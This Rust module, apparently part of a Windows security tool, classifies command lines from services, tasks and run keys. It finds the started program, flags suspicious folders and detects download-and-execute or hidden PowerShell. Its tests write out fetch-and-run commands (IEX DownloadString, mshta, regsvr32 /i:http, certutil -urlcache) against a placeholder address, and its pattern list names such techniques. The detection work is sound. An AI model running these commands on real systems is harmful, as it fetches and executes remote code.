//! What a command line really starts, where that lies, and whether it hides what it does: what rules about services,
//! tasks and run keys ask, so that no rule takes command lines apart by itself.

use super::command::folded_command;
use afterpatch_model::{extension, file_name, path_drive, path_key};

/// Beginnings that stand for a folder of the system.
const FOLDERS: [(&str, &str); 14] = [
    (r"\??\", ""),
    (r"\\?\", ""),
    (r"\systemroot\", r"C:\Windows\"),
    ("%systemroot%", r"C:\Windows"),
    ("%windir%", r"C:\Windows"),
    ("%systemdrive%", "C:"),
    ("%comspec%", r"C:\Windows\System32\cmd.exe"),
    ("%programfiles%", r"C:\Program Files"),
    ("%programfiles(x86)%", r"C:\Program Files (x86)"),
    ("%programdata%", r"C:\ProgramData"),
    ("%allusersprofile%", r"C:\ProgramData"),
    ("%public%", r"C:\Users\Public"),
    (r"system32\", r"C:\Windows\System32\"),
    (r"syswow64\", r"C:\Windows\SysWOW64\"),
];

/// What Windows starts as a program, and what its hosts run.
const STARTED: [&str; 21] = [
    "exe", "dll", "sys", "com", "scr", "cpl", "ocx", "bat", "cmd", "ps1", "psm1", "vbs", "vbe", "js", "jse",
    "wsf", "hta", "sct", "msi", "jar", "py",
];

/// Programs that only run what they are handed.
const HOSTS: [&str; 15] = [
    "rundll32",
    "regsvr32",
    "cmd",
    "powershell",
    "pwsh",
    "wscript",
    "cscript",
    "mshta",
    "msiexec",
    "java",
    "javaw",
    "python",
    "pythonw",
    "conhost",
    "regasm",
];

/// Interpreters and helpers that need no file: what they are told is what they do.
const INTERPRETERS: [&str; 12] = [
    "cmd",
    "powershell",
    "pwsh",
    "wscript",
    "cscript",
    "mshta",
    "rundll32",
    "regsvr32",
    "msbuild",
    "certutil",
    "bitsadmin",
    "installutil",
];

/// Returns the path of what a command line starts: the program or, where that is a host such as `rundll32` or `cmd`, the
/// file that it is handed. Quotes are dropped, and folders of the system are written out.
pub(super) fn program(line: &str) -> Option<String> {
    let (first, rest) = first_path(line)?;
    let handed = is_host(&first).then(|| handed(rest)).flatten();
    Some(handed.unwrap_or(first))
}

/// Returns the first file of those that a host is handed: the first word that names one that can be run.
fn handed(mut rest: &str) -> Option<String> {
    while !rest.trim_start().is_empty() {
        let (word, further) = first_path(rest)?;
        // `rundll32 x.dll,Entry` names the entry behind a comma; `cmd /c start x.exe` has words before the file.
        let word = word.split(',').next().unwrap_or(&word);
        if is_started(word) && !is_host(word) {
            return Some(word.to_owned());
        }
        rest = further;
    }
    None
}

/// Takes the first path of a command line; one without quotes may hold blanks, and ends with what can be started.
fn first_path(line: &str) -> Option<(String, &str)> {
    let line = line.trim_start();
    for quote in ['"', '\''] {
        if let Some(inner) = line.strip_prefix(quote) {
            let (path, rest) = inner.split_once(quote).unwrap_or((inner, ""));
            return Some((written_out(path), rest));
        }
    }
    let mut ends = line.match_indices(char::is_whitespace).map(|(at, _)| at).chain([line.len()]);
    let word_end = ends.next()?;
    let word = line.get(..word_end)?;
    let has_folder = word.contains(['\\', '/', '%']) && !word.starts_with(['-', '/']);
    let whole = std::iter::once(word_end).chain(ends.by_ref().filter(|_| has_folder));
    let end = whole.into_iter().find(|end| line.get(..*end).is_some_and(is_started)).unwrap_or(word_end);
    let path = line.get(..end).filter(|path| !path.is_empty())?;
    Some((written_out(path), line.get(end..).unwrap_or_default()))
}

fn is_started(path: &str) -> bool {
    STARTED.contains(&extension(path.split(',').next().unwrap_or(path)).as_str())
}

fn written_out(path: &str) -> String {
    let lower = path.to_ascii_lowercase();
    let known = FOLDERS.iter().find(|(start, _)| lower.starts_with(start));
    let rest = |start: &str| path.get(start.len()..).unwrap_or_default();
    match known {
        Some((start, "")) => written_out(rest(start)),
        Some((start, folder)) => format!("{folder}{}", rest(start)),
        None => path.to_owned(),
    }
}

fn stem(path: &str) -> String {
    let name = file_name(path).to_ascii_lowercase();
    name.strip_suffix(".exe").unwrap_or(&name).to_owned()
}

fn is_host(path: &str) -> bool {
    HOSTS.contains(&stem(path).as_str())
}

/// Folders in which nothing that starts by itself has any business, as parts of a [`path_key`].
const ODD_FOLDERS: [&str; 26] = [
    "/users/public/",
    "/users/default/",
    "/users/all users/",
    "/windows/temp/",
    "/windows/debug/",
    "/windows/tasks/",
    "/windows/tracing/",
    "/windows/help/",
    "/windows/fonts/",
    "/windows/media/",
    "/windows/ime/",
    "/windows/addins/",
    "/windows/registration/",
    "/windows/system32/tasks/",
    "/windows/system32/spool/drivers/color/",
    "/windows/system32/config/systemprofile/",
    "/windows/system32/logfiles/",
    "/appdata/local/temp/",
    "/perflogs/",
    "/$recycle.bin/",
    "/recycler/",
    "/system volume information/",
    "/inetpub/wwwroot/",
    "/frontend/httpproxy/",
    "/clientaccess/",
    "/temporary asp.net files/",
];

/// Folders that hold what starts by itself, but not directly.
const ODD_DIRECTLY: [&str; 9] = [
    "/",
    "/temp",
    "/tmp",
    "/programdata",
    "/users",
    "/windows/system32/drivers/etc",
    "/appdata/local",
    "/appdata/roaming",
    "/appdata/locallow",
];

/// Names of devices, which Explorer neither opens nor deletes as folders.
const DEVICES: [&str; 8] = ["con", "prn", "aux", "nul", "com1", "com2", "lpt1", "lpt2"];

/// Says what kind of place a path lies in: `odd` where nothing of the system or of a product has any business, `windows`,
/// `programs`, `share` for another computer's, and `other`.
pub(super) fn place(path: &str) -> &'static str {
    let path = written_out(path.trim().trim_matches('"'));
    if path.starts_with(r"\\") && path_drive(&path).is_none() {
        return "share";
    }
    if !path.contains(['\\', '/']) {
        return "other";
    }
    let key = path_key(&path);
    let folder = key.rfind('/').and_then(|end| key.get(..end)).unwrap_or_default();
    let folder = if folder.is_empty() { "/" } else { folder };
    let directly =
        ODD_DIRECTLY.iter().any(|odd| folder == *odd || odd.starts_with("/appdata") && folder.ends_with(odd));
    let device = folder.split('/').any(|part| DEVICES.contains(&part.split('.').next().unwrap_or(part)));
    // A second colon names a stream that is hidden behind a file.
    let stream = key.contains(':');
    if directly || device || stream || ODD_FOLDERS.iter().any(|odd| key.contains(odd)) {
        "odd"
    } else if key.starts_with("/windows/") {
        "windows"
    } else if key.starts_with("/program files/") || key.starts_with("/program files (x86)/") {
        "programs"
    } else {
        "other"
    }
}

/// Ways of a command line to fetch what it runs or to keep it from being read, in the form of [`folded_command`].
const COVERT: [&str; 24] = [
    "downloadstring",
    "downloadfile",
    "downloaddata",
    "frombase64string",
    "invoke-webrequest",
    "invoke-expression",
    "net.webclient",
    "net.sockets.tcpclient",
    "iwr http",
    "iex(",
    "iex (",
    "|iex",
    "| iex",
    "-w hidden",
    "-windowstyle hidden",
    "-win hidden",
    "certutil -urlcache",
    "-urlcache -",
    "bitsadmin /transfer",
    "mshta http",
    "mshta.exe http",
    "/i:http",
    "javascript:",
    "vbscript:",
];

/// Tells whether a command line has an interpreter fetch what it runs, or keeps from being read what that is.
pub(super) fn is_covert(line: &str) -> bool {
    let folded = folded_command(line);
    let has_interpreter =
        folded.split([' ', '(', '&', '|', ';']).any(|word| INTERPRETERS.contains(&stem(word).as_str()));
    let is_encoded = folded.split(' ').any(|word| {
        let name = word.strip_prefix(['-', '/']).unwrap_or_default();
        name.len() > 1 && ("encodedcommand".starts_with(name) || name == "ec")
    });
    let is_powershell = folded.contains("powershell") || folded.contains("pwsh");
    has_interpreter && (COVERT.iter().any(|way| folded.contains(way)) || is_powershell && is_encoded)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn what_a_command_line_starts_is_found_behind_quotes_folders_and_hosts() {
        let cases = [
            (r#""C:\Program Files\Vendor\agent.exe" -s"#, r"C:\Program Files\Vendor\agent.exe"),
            (r"C:\Program Files\Vendor\agent.exe -s", r"C:\Program Files\Vendor\agent.exe"),
            (r"%SystemRoot%\System32\svchost.exe -k netsvcs", r"C:\Windows\System32\svchost.exe"),
            (r"\SystemRoot\System32\drivers\x.sys", r"C:\Windows\System32\drivers\x.sys"),
            (r"system32\DRIVERS\x.sys", r"C:\Windows\System32\DRIVERS\x.sys"),
            (r"\??\C:\Windows\x.sys", r"C:\Windows\x.sys"),
            (r"\??\%windir%\x.sys", r"C:\Windows\x.sys"),
            (r"rundll32.exe C:\ProgramData\x.dll,Run", r"C:\ProgramData\x.dll"),
            (r#"C:\Windows\System32\rundll32.exe "C:\Pro Data\x.dll",Run"#, r"C:\Pro Data\x.dll"),
            (r"cmd.exe /c start C:\Windows\Temp\xx.bat", r"C:\Windows\Temp\xx.bat"),
            (r"%COMSPEC% /Q /c echo x", r"C:\Windows\System32\cmd.exe"),
            (r"powershell -ExecutionPolicy Bypass -File C:\Scripts\a.ps1", r"C:\Scripts\a.ps1"),
            (r"powershell.exe -enc AAAA", "powershell.exe"),
            (r"wscript.exe C:\Users\Public\a b.vbs", r"C:\Users\Public\a b.vbs"),
            ("notepad", "notepad"),
        ];
        for (line, started) in cases {
            assert_eq!(program(line).as_deref(), Some(started), "{line}");
        }
        assert_eq!(program("  "), None);
    }

    #[test]
    fn places_are_odd_where_nothing_has_any_business() {
        for odd in [
            r"C:\Users\Public\opera\Opera_browser.exe",
            r"C:\Windows\Temp\xx.bat",
            r"%windir%\Temp\xx.bat",
            r"C:\ProgramData\a.exe",
            r"D:\a.exe",
            r"C:\inetpub\wwwroot\aspnet_client\a.exe",
            r"C:\ProgramData\COM1\a\x.dll",
            r"C:\ProgramData\AUX\x.dll",
            r"C:\$Recycle.Bin\S-1\x.exe",
            r"C:\Users\svc\AppData\Roaming\x.exe",
            r"C:\Users\svc\AppData\Local\Temp\7z\x.exe",
            r"C:\Windows\System32\calc.exe:x.dll",
        ] {
            assert_eq!(place(odd), "odd", "{odd}");
        }
        let others = [
            (r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe", "other"),
            (r"C:\Users\a\AppData\Local\Microsoft\OneDrive\OneDrive.exe", "other"),
            (r"D:\Tools\Backup\agent.exe", "other"),
            (r"C:\ProgramData\Auxiliary\x.dll", "other"),
            (r"C:\Windows\System32\svchost.exe", "windows"),
            (r"%ProgramFiles%\Vendor\x.dll", "programs"),
            (r"\\fs1\scripts\a.cmd", "share"),
            ("svchost.exe", "other"),
        ];
        for (path, kind) in others {
            assert_eq!(place(path), kind, "{path}");
        }
    }

    #[test]
    fn commands_that_hide_or_fetch_are_covert_and_jobs_are_not() {
        for covert in [
            "powershell -nop -w hidden -c x",
            "cmd /c power^shell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
            "mshta http://192.0.2.9/a.hta",
            "regsvr32 /s /n /u /i:http://192.0.2.9/a.sct scrobj.dll",
            "powershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')",
            "certutil.exe -urlcache -f http://192.0.2.9/a a.exe",
            "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \"",
        ] {
            assert!(is_covert(covert), "{covert}");
        }
        for plain in [
            r"powershell.exe -ExecutionPolicy Bypass -File D:\Jobs\export.ps1",
            r"cmd.exe /c D:\Jobs\rotate.cmd",
            r"C:\Windows\System32\svchost.exe -k netsvcs -p",
            r"D:\Tools\invoke-webrequest\agent.exe",
            "",
        ] {
            assert!(!is_covert(plain), "{plain}");
        }
    }

    proptest! {
        #[test]
        fn any_line_is_taken_apart_without_a_panic(line in "[ -~é\"%\\\\]{0,60}") {
            let started = program(&line);
            prop_assert_eq!(started.is_none(), line.trim().is_empty());
            let _ = (place(&line), is_covert(&line));
        }
    }
}
